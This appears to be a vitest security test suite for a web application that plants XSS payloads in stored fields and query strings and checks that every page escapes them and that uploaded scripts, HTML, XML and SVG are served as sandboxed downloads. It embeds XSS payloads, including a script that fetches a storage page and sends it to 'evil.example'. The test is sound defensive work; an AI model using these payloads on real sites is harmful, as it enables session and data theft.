// Stored and reflected XSS, swept: payloads sit in every user- or remote-controlled field (xss-fields.ts), then
// every HTML page the router serves is rendered for every kind of viewer, and no payload may appear live (raw
// markup, or a javascript: URL in a link). Each field must also show up escaped where it is displayed, so a
// field that silently stopped rendering cannot make the sweep pass by omission.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { client, type Reply } from '../helpers/http.js';
import {
  browserHeaders,
  csrfToken,
  escapeHtml,
  HTML,
  livePayloads,
  MARKUP_PAYLOADS,
  routerRoutes,
  sessionToken,
} from './security-fixtures.js';
import { startWorld, type World } from './security-world.js';
import { payload, shown, storePayloads, type Stored, type Viewer } from './xss-fields.js';

let world: World;
let stored: Stored;
let api: ReturnType<typeof client>;

beforeAll(async () => {
  world = await startWorld();
  api = client(world.server.url);
  stored = await storePayloads(world);
});
afterAll(() => world?.stop());

/** Routes that answer GET but never with a page (files, or JSON only). */
const NOT_PAGES = new Set([
  'GET /static/build/:file',
  'GET /docs/assets/:file',
  'GET /openapi.json',
  'GET /health',
  'GET /metrics',
  'GET /ready',
  'GET /.well-known/webfinger',
  'GET /.well-known/host-meta',
  'GET /.well-known/nodeinfo',
  'GET /nodeinfo/2.1',
  'GET /objects/:hash',
  'GET /assets/:name/content',
  'GET /assets/by-run-id/:runId',
  'GET /jobs/:id',
  'GET /anchors',
  'GET /anchors/verify/:ref',
  'GET /anchors/:root/tree',
  'GET /anchors/:root/ots',
  'GET /activities/:ref/ots',
  'GET /auth/me',
  'GET /renderers/attach',
  'GET /storage/:id',
  'GET /download/client/artdag.mjs',
  'GET /users/:name/outbox',
  'GET /users/:name/followers',
  'GET /users/:name/following',
]);

const P = MARKUP_PAYLOADS[0]!;
const q = encodeURIComponent;

/** The URLs each page route is rendered at: with stored payloads, and with payloads in its query (reflected). */
function pageUrls(s: Stored): Record<string, string[]> {
  const { providerId, s3Id, deviceCode, activityRef } = s.urls;
  return {
    'GET /': ['/'],
    'GET /login': [`/login?next=${q(`/${P}`)}`, `/login?next=${q('javascript:alert(1)')}`],
    'GET /register': ['/register'],
    'GET /logout': ['/logout'],
    'GET /device': [`/device?code=${deviceCode}`, `/device?code=${q(P)}`],
    'GET /docs': ['/docs'],
    'GET /assets': ['/assets', `/assets?tag=${q(P)}&asset_type=${q(P)}&cursor=${q(P)}`, `/assets?q=${q(payload('search'))}`],
    'GET /assets/new': ['/assets/new'],
    'GET /assets/:name': ['/assets/xss-api'],
    'GET /asset/:name': ['/asset/xss-api', '/asset/xss-run', '/asset/xss-upload', `/asset/${q(payload('missing'))}`],
    'GET /asset/:name/anchor': ['/asset/xss-api/anchor'],
    'GET /activities': ['/activities', `/activities?cursor=${q(P)}`],
    'GET /activities/:ref': [`/activities/${activityRef}`, `/activities/${q(P)}`],
    'GET /activity/:ref': [`/activity/${activityRef}`],
    'GET /users': ['/users'],
    'GET /users/:name': ['/users/alice', `/users/${q(P)}`],
    'GET /admin': ['/admin'],
    'GET /anchors/ui': ['/anchors/ui', `/anchors/ui?root=${world.anchorRoot}`, `/anchors/ui?root=${q(P)}&notice=${q(P)}`],
    'GET /anchors/:root': [`/anchors/${world.anchorRoot}`],
    'GET /renderers': ['/renderers', `/renderers?notice=${q(P)}`],
    'GET /storage': ['/storage', `/storage?notice=${q(P)}`],
    'GET /storage/type': [`/storage/type?type=s3`, `/storage/type?type=${q(P)}`],
    'GET /storage/type/:type': ['/storage/type/ipfs'],
    'GET /storage/:id/edit': [`/storage/${providerId}/edit`, `/storage/${s3Id}/edit`],
    'GET /storage/:id/delete': [`/storage/${providerId}/delete`, `/storage/${s3Id}/delete`],
    'GET /download/client': ['/download/client'],
  };
}

const VIEWERS: Viewer[] = ['anonymous', 'alice', 'bob', 'operator'];
/** Rendered pages: url → viewer → reply. */
const rendered = new Map<string, Map<Viewer, Reply>>();

async function view(url: string, viewer: Viewer): Promise<Reply> {
  const user = viewer === 'operator' ? world.server.config.operatorUser : viewer;
  const session = viewer === 'anonymous' ? null : await sessionToken(world.server, user);
  return api.get(url, { headers: { ...browserHeaders(session, csrfToken()), ...HTML }, redirect: 'follow' });
}

describe('the sweep', () => {
  it('renders every page route the router serves (or says why a GET route is not a page)', async () => {
    const gets = (await routerRoutes(world.server)).filter((r) => r.startsWith('GET '));
    const pages = gets.filter((r) => !NOT_PAGES.has(r));
    expect(Object.keys(pageUrls(stored)).sort()).toEqual(pages);
    expect([...NOT_PAGES].filter((r) => !gets.includes(r))).toEqual([]);
  });

  it('has a detector that sees live payloads and passes escaped ones', () => {
    for (const p of MARKUP_PAYLOADS) expect(livePayloads(`<p>${p}</p>`)).not.toEqual([]);
    expect(livePayloads('<a class="x" href="javascript:alert(1)">x</a>')).not.toEqual([]);
    expect(livePayloads(`<p>${escapeHtml(MARKUP_PAYLOADS.join(''))} javascript:alert(1)</p>`)).toEqual([]);
  });

  it('shows no payload live on any page, to any viewer', async () => {
    const live: string[] = [];
    for (const url of Object.values(pageUrls(stored)).flat()) {
      const byViewer = new Map<Viewer, Reply>();
      for (const viewer of VIEWERS) {
        const res = await view(url, viewer);
        byViewer.set(viewer, res);
        if (res.status >= 500) live.push(`${viewer} ${url}: ${res.status}`);
        for (const found of livePayloads(res.text)) live.push(`${viewer} ${url}: ${found}`);
      }
      rendered.set(url, byViewer);
    }
    expect(live).toEqual([]);
    // The pages really were HTML pages, with our layout.
    expect(rendered.get('/asset/xss-api')!.get('anonymous')!.text).toContain('<main');
  });

  it('shows every stored field, escaped, on the page that displays it', () => {
    const missing = Object.entries(stored.expected)
      .filter(
        ([field, { url, viewer, stripped }]) =>
          !rendered
            .get(url)
            ?.get(viewer)
            ?.text.includes(stripped ? `${field}:` : shown(field)),
      )
      .map(([field, { url, viewer }]) => `${field} on ${url} for ${viewer}`);
    expect(missing).toEqual([]);
  });

  it('keeps the attribute-breaking payloads inside their attributes', () => {
    // In a value="" the quote must be &quot;: the s3 edit form puts stored config values into inputs.
    const edit = rendered.get(`/storage/${stored.urls.s3Id}/edit`)!.get('alice')!.text;
    expect(edit).toContain(`value="${escapeHtml(payload('s3-bucket'))}"`);
    // Links carry no javascript: URL from a remote document (follower url) or an L1 record.
    const profile = rendered.get('/users/alice')!.get('anonymous')!.text;
    expect(profile).not.toMatch(/href="javascript:/i);
    expect(profile).toContain('follower-js-name:');
  });
});

describe('uploaded content', () => {
  /** Uploads `body` declared as `type`; returns how /assets/<name>/content answers. */
  async function served(name: string, type: string, body: string): Promise<Response> {
    const form = new FormData();
    form.set('name', name);
    form.set('asset_type', 'other');
    form.set('file', new Blob([body], { type }), `${name}.bin`);
    const token = await sessionToken(world.server, 'alice');
    const res = await fetch(`${world.server.url}/assets`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
    expect(res.status, await res.text()).toBe(201);
    return fetch(`${world.server.url}/assets/${name}/content`, { headers: HTML });
  }

  it('never runs as a page or a script on this origin, whatever type the uploader declared', async () => {
    const script = 'fetch("/storage").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t));';
    const active = {
      'evil-js': ['text/javascript', script],
      'evil-module': ['application/javascript; charset=utf-8', `${script}\n// module`],
      'evil-html': ['text/html', `<script src="/assets/evil-js/content"></script>${P}`],
      'evil-xhtml': ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`],
      'evil-xml': ['text/xml', '<?xml-stylesheet href="/assets/evil-js/content"?><x/>'],
      'evil-svg': ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    };
    for (const [name, [type, body]] of Object.entries(active)) {
      const res = await served(name, type!, body!);
      expect(res.status, name).toBe(200);
      // A download in a sandbox: no script type (nosniff makes browsers refuse it as a script), no inline page.
      expect(res.headers.get('content-type'), name).toMatch(/^(application\/octet-stream|image\/svg\+xml)$/);
      expect(res.headers.get('content-disposition'), name).toBe(`attachment; filename="${name}"`);
      expect(res.headers.get('content-security-policy'), name).toContain('sandbox');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(await res.text()).toBe(body);
    }
  });

  it('still shows pictures, sound and video inline, sandboxed', async () => {
    const res = await served('plain-png', 'image/png', 'not really a png');
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('content-disposition')).toBe('inline; filename="plain-png"');
    expect(res.headers.get('content-security-policy')).toContain('sandbox');
    const page = await view('/asset/plain-png', 'anonymous');
    expect(page.text).toContain('src="/assets/plain-png/content"');
  });
});
